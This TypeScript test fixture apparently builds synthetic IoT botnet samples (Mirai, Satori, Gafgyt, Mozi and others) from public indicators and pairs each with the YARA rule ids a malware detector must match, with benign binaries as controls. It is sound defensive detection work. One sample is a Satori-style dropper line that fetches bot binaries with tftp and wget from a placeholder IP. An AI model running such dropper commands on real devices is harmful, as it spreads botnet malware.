// The synthetic family samples the matcher and the YARA agreement tests share, each with the rule ids
// it must match: one per family built from public indicator strings, and benign binaries that match none.
import { readFileSync } from 'node:fs';
import { buildElfImage } from '../personas/elf-image.ts';
import {
  concat, elfHeader, elfWithStrings, filler, gafgytStrings, hajimeMessage, miraiLikeSample, moziStrings, tsunamiStrings, xorddosStrings, xorTable,
} from './fake-samples.ts';

/** Synthetic samples and the rule each must match; shared with the YARA agreement test. */
export function familySamples(): { name: string; bytes: Uint8Array; expected: string[] }[] {
  const c2 = { cnc: 'cnc.example.net', cncPort: 23, report: 'report.example.net', reportPort: 48101 };
  return [
    { name: 'mirai (key 0x22)', bytes: miraiLikeSample(0x22, c2), expected: ['mirai'] },
    { name: 'masuta-like table (key 0x45)', bytes: concat([elfHeader(), filler(4000, 3), xorTable(['/bin/busybox MASUTA', 'MASUTA: applet not found'], 0x45)]), expected: ['mirai-masuta'] },
    { name: 'satori dropper', bytes: Buffer.from('#!/bin/sh\ncd /tmp; tftp -r satori.arm -g 1.2.3.4; wget http://1.2.3.4/bins/satori.mips\n'), expected: ['mirai-satori'] },
    { name: 'gafgyt', bytes: elfWithStrings(gafgytStrings), expected: ['gafgyt'] },
    { name: 'mozi', bytes: elfWithStrings(moziStrings), expected: ['mozi'] },
    { name: 'tsunami', bytes: elfWithStrings(tsunamiStrings), expected: ['tsunami'] },
    { name: 'xorddos', bytes: elfWithStrings(xorddosStrings), expected: ['xorddos'] },
    { name: 'hajime', bytes: elfWithStrings([hajimeMessage]), expected: ['hajime'] },
    { name: 'moobot', bytes: elfWithStrings(['w5q6he3dbrsgmclain4sdv', '/proc/self/exe']), expected: ['moobot'] },
    { name: '/bin/ls', bytes: new Uint8Array(readFileSync('/bin/ls')), expected: [] },
    { name: 'persona busybox', bytes: personaBusybox(), expected: [] },
    { name: 'random bytes', bytes: filler(256 * 1024, 11), expected: [] },
  ];
}

/** A BusyBox image as the personas build it, with the strings a real BusyBox carries that overlap bots'. */
function personaBusybox(): Uint8Array {
  return buildElfImage({
    elf: { bits: 32, endian: 'little', machine: 40, flags: 0x05000002 },
    size: 400_000,
    seed: 'test-busybox',
    strings: ['BusyBox v1.20.2 (2016-07-08 13:46:15 CST) multi-call binary.', '/bin/sh', '/proc/', '/dev/watchdog', '/dev/misc/watchdog', 'ping', 'wget', 'tftp', 'telnetd', 'killall', 'root', 'admin'],
  });
}
